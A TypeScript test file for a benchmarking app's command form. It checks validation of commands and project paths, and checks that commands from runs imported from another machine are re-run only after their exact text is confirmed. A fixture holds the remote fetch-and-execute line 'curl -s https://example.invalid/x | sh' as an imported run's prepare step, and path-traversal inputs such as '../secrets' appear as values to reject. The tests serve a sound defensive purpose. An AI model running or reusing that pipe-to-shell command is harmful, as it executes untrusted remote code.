/**
 * "Your own command" in the app: the form's check (an empty command, a relative path, a bad number) and the request it sends
 * (RunSpec.command, as `vmbench run --command` sends it; the places left out); and the gate on running a stored run's command
 * again: this machine's run as it was asked, an imported run only once its exact text is confirmed, in a folder of the user's.
 */
import { describe, expect, it } from 'vitest';
import type { Run } from '../../electron/contract/contract.js';
import { runSpecSchema } from '../../electron/engine/api-schemas.js';
import { EMPTY_FIELDS, checkFields, commandRunSpec, initialFields, remember, rerunSpec, useCommandForm } from '../../src/store/command-form.js';
import { makeRun, result } from '../helpers/make-run.js';

describe('the command form', () => {
  it('refuses an empty command, an empty or relative project folder and numbers out of range, each on its field', () => {
    const r = checkFields({ ...EMPTY_FIELDS, project: 'code/app', command: '  ', warmup: '-1', runs: '2.5' });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems.map((p) => [p.field, p.key])).toEqual([
      ['project', 'projectRelative'],
      ['command', 'commandEmpty'],
      ['warmup', 'number'],
      ['runs', 'number'],
    ]);
    const empty = checkFields({ ...EMPTY_FIELDS, command: 'ls' });
    expect(!empty.ok && empty.problems.map((p) => p.key)).toEqual(['projectEmpty']);
  });

  it('sends the command as the engine takes it: adaptive runs and a scratch copy unless asked, only the places kept, native always', () => {
    const r = checkFields({ ...EMPTY_FIELDS, project: '/srv/app/', command: 'npm ci', prepare: 'rm -rf node_modules', warmup: '2' });
    expect(r).toEqual({ ok: true, spec: { command: 'npm ci', project: '/srv/app', prepare: 'rm -rf node_modules', warmup: 2 } });
    if (!r.ok) return;
    const all = commandRunSpec(r.spec, ['local', 'docker:default'], ['native', 'shared', 'volume'], []);
    expect(all).toEqual({ suite: 'quick', targets: ['local', 'docker:default'], command: r.spec });
    const some = commandRunSpec(r.spec, ['local', 'docker:default'], ['native', 'shared', 'volume'], ['native', 'volume']);
    expect(some.places).toEqual(['native', 'shared']);
    // The engine's own boundary accepts what the form sends.
    expect(runSpecSchema.safeParse(some).success).toBe(true);
    const inPlace = checkFields({ ...EMPTY_FIELDS, project: '/srv/app', command: 'make', runs: '10', inPlace: true });
    expect(inPlace.ok && inPlace.spec).toEqual({ command: 'make', project: '/srv/app', runs: 10, inPlace: true });
  });
});

describe('the clean-up and exclusions of the form (as --cleanup and --exclude)', () => {
  it('sends the clean-up command and each path left out of the copy, as the engine takes them', () => {
    const r = checkFields({
      ...EMPTY_FIELDS,
      project: '/srv/app',
      command: 'npm ci',
      cleanup: 'rm -rf dist',
      exclude: ' node_modules/, .venv ,, build/cache ',
    });
    expect(r).toEqual({
      ok: true,
      spec: { command: 'npm ci', project: '/srv/app', cleanup: 'rm -rf dist', exclude: ['node_modules', '.venv', 'build/cache'] },
    });
    if (!r.ok) return;
    expect(runSpecSchema.safeParse(commandRunSpec(r.spec, ['local'], ['native'], [])).success).toBe(true);
  });

  it('refuses a path outside the project on its field, as the CLI refuses it', () => {
    for (const bad of ['../secrets', '/etc', 'src/../../x']) {
      const r = checkFields({ ...EMPTY_FIELDS, project: '/srv/app', command: 'ls', exclude: `node_modules, ${bad}` });
      expect(!r.ok && r.problems).toEqual([{ field: 'exclude', key: 'excludeOutside', params: { path: bad } }]);
    }
  });

  it('remembers them per project folder, and a folder without them gets none', () => {
    const store = new Map<string, string>();
    const storage = { getItem: (k: string) => store.get(k) ?? null, setItem: (k: string, v: string) => void store.set(k, v) };
    Object.assign(globalThis, { localStorage: storage });
    try {
      remember({ ...EMPTY_FIELDS, project: '/srv/app', command: 'make', cleanup: 'make clean', exclude: 'node_modules' });
      remember({ ...EMPTY_FIELDS, project: '/srv/other', command: 'ls' });
      expect(initialFields()).toMatchObject({ project: '/srv/other', cleanup: '', exclude: '' });
      useCommandForm.setState({ fields: initialFields() });
      useCommandForm.getState().set({ project: '/srv/app' });
      expect(useCommandForm.getState().fields).toMatchObject({ command: 'make', cleanup: 'make clean', exclude: 'node_modules' });
      // A folder remembered before these fields existed takes none of the last folder's.
      store.set(
        'vmbench.command',
        JSON.stringify({
          last: '/srv/app',
          byProject: { '/srv/app': { ...EMPTY_FIELDS, command: 'make', cleanup: 'x', exclude: 'y' }, '/srv/old': { command: 'ls' } },
        }),
      );
      useCommandForm.setState({ fields: initialFields() });
      useCommandForm.getState().set({ project: '/srv/old' });
      expect(useCommandForm.getState().fields).toMatchObject({ command: 'ls', cleanup: '', exclude: '' });
    } finally {
      delete (globalThis as { localStorage?: unknown }).localStorage;
    }
  });
});

/** A stored command run of `command` in `project`, imported from another machine when `machine` is given. */
function commandRun(command: string, project: string, machine?: string): Run {
  const res = { ...result('command', 'native', { wall_s: [1, 1.1, 1.05] }), params: { commandText: command } };
  const run = makeRun('2026-11-28T10-00-00-local', '2026-11-28T10:00:00.000Z', [res]);
  run.command = { command, project, prepare: 'curl -s https://example.invalid/x | sh', runs: 5 };
  if (machine) run.origin = { kind: 'imported', machine, importedAt: '2026-11-28T12:00:00.000Z', digest: 'a'.repeat(64), sourceId: run.id };
  return run;
}

describe('running a stored run’s command again', () => {
  it("this machine's run runs as it was asked, in its own project folder", () => {
    const run = commandRun('npm ci', '/srv/app');
    expect(rerunSpec(run)).toEqual({ ok: true, spec: run.command });
  });

  it('an imported run never runs without the exact text confirmed: not without it, not with a near miss', () => {
    const run = commandRun('rm -rf build && make', '<project>', 'alice-mbp');
    expect(rerunSpec(run)).toEqual({ ok: false, why: 'confirm' });
    expect(rerunSpec(run, { project: '/srv/app' })).toEqual({ ok: false, why: 'confirm' });
    for (const near of ['rm -rf build && make ', 'rm -rf build  && make', 'RM -rf build && make', 'rm -rf build'])
      expect(rerunSpec(run, { confirmed: near, project: '/srv/app' })).toEqual({ ok: false, why: 'confirm' });
  });

  it('confirmed, it runs that text alone (not its prepare step) in a project folder of the user’s, never in the placeholder', () => {
    const run = commandRun('rm -rf build && make', '<project>', 'alice-mbp');
    expect(rerunSpec(run, { confirmed: 'rm -rf build && make' })).toEqual({ ok: false, why: 'project' });
    expect(rerunSpec(run, { confirmed: 'rm -rf build && make', project: '<project>' })).toEqual({ ok: false, why: 'project' });
    expect(rerunSpec(run, { confirmed: 'rm -rf build && make', project: ' /srv/app ' })).toEqual({
      ok: true,
      spec: { command: 'rm -rf build && make', project: '/srv/app', runs: 5 },
    });
  });

  it('an imported run that kept a real-looking project path still asks (the path is another machine’s)', () => {
    const run = commandRun('make', '/home/alice/app', 'alice-mbp');
    expect(rerunSpec(run)).toEqual({ ok: false, why: 'confirm' });
  });
});
